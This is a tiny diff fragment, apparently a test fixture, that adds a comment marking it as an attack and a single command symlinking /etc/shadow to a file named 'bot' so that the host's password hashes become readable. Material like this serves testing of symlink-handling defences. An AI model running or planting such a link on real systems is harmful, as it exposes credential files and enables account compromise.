@@ -1,0 +1,2 @@
+# attack: the result is a link to what the host can read
+ln -s /etc/shadow bot
